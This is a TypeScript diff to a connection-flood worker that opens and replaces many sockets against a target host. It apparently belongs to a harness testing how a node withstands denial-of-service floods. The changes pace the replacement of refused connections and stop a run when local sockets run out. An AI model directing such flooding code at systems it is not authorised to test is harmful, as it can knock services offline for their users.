@@ -9,6 +9,10 @@ const REPORT_MS = 50;
 const PACE_MS = 10;
 /** Openings at once: a wave of thousands would be dropped by the system, not by the node. */
 const OPENINGS = 256;
+/** Until a connection that was refused is replaced: a place is seldom free again at once. */
+const REFUSED_PAUSE_MS = 20;
+/** What `connect` says when this process, or this machine, has nothing left to connect with. */
+const OWN_FAULTS: ReadonlySet<string> = new Set(['EMFILE', 'ENFILE', 'EADDRNOTAVAIL', 'ENOBUFS', 'ENOMEM']);
 
 const work = workerData as FloodWork;
 const sockets = new Set<Socket>();
@@ -59,6 +63,12 @@ function openMore(): void {
   }
 }
 
+/** Opens another connection in place of one that is gone. */
+function replace(): void {
+  toOpen += 1;
+  openMore();
+}
+
 function openOne(): void {
   const socket = connect({ host: work.host, port: work.port, allowHalfOpen: true });
   sockets.add(socket);
@@ -83,14 +93,16 @@ function openOne(): void {
   const cut = (code: number, reason: string): void => {
     if (isCut || isStopping) return;
     isCut = true;
+    // Who was never let in has nothing to be stubborn about: each that stayed would hold one of the attackers' own descriptors for ever.
+    if (!isOpen || work.isStubborn !== true) socket.destroy();
     if (isOpen) report({ kind: 'cut', cut: { code, reason, sentBytes: own, afterMs: performance.now() - startedMs } });
     else {
       openings -= 1;
       report({ kind: 'refused' });
     }
-    if (work.isStubborn !== true) socket.destroy();
-    if (work.isReplaced === true) toOpen += 1;
-    openMore();
+    if (work.isReplaced !== true) openMore();
+    else if (isOpen) replace();
+    else setTimeout(replace, REFUSED_PAUSE_MS).unref();
   };
   let head = Buffer.alloc(0);
   socket.on('connect', () => {
@@ -115,7 +127,10 @@ function openOne(): void {
     if (goodbye !== undefined) cut(goodbye.code, goodbye.reason);
   });
   socket.on('end', () => cut(0, 'it ended'));
-  socket.on('error', () => undefined);
+  socket.on('error', (error: NodeJS.ErrnoException) => {
+    // It is not the victim that refuses: no attack is under way any more.
+    if (OWN_FAULTS.has(error.code ?? '')) throw error;
+  });
   socket.on('close', () => {
     sockets.delete(socket);
     cut(0, 'it was reset');
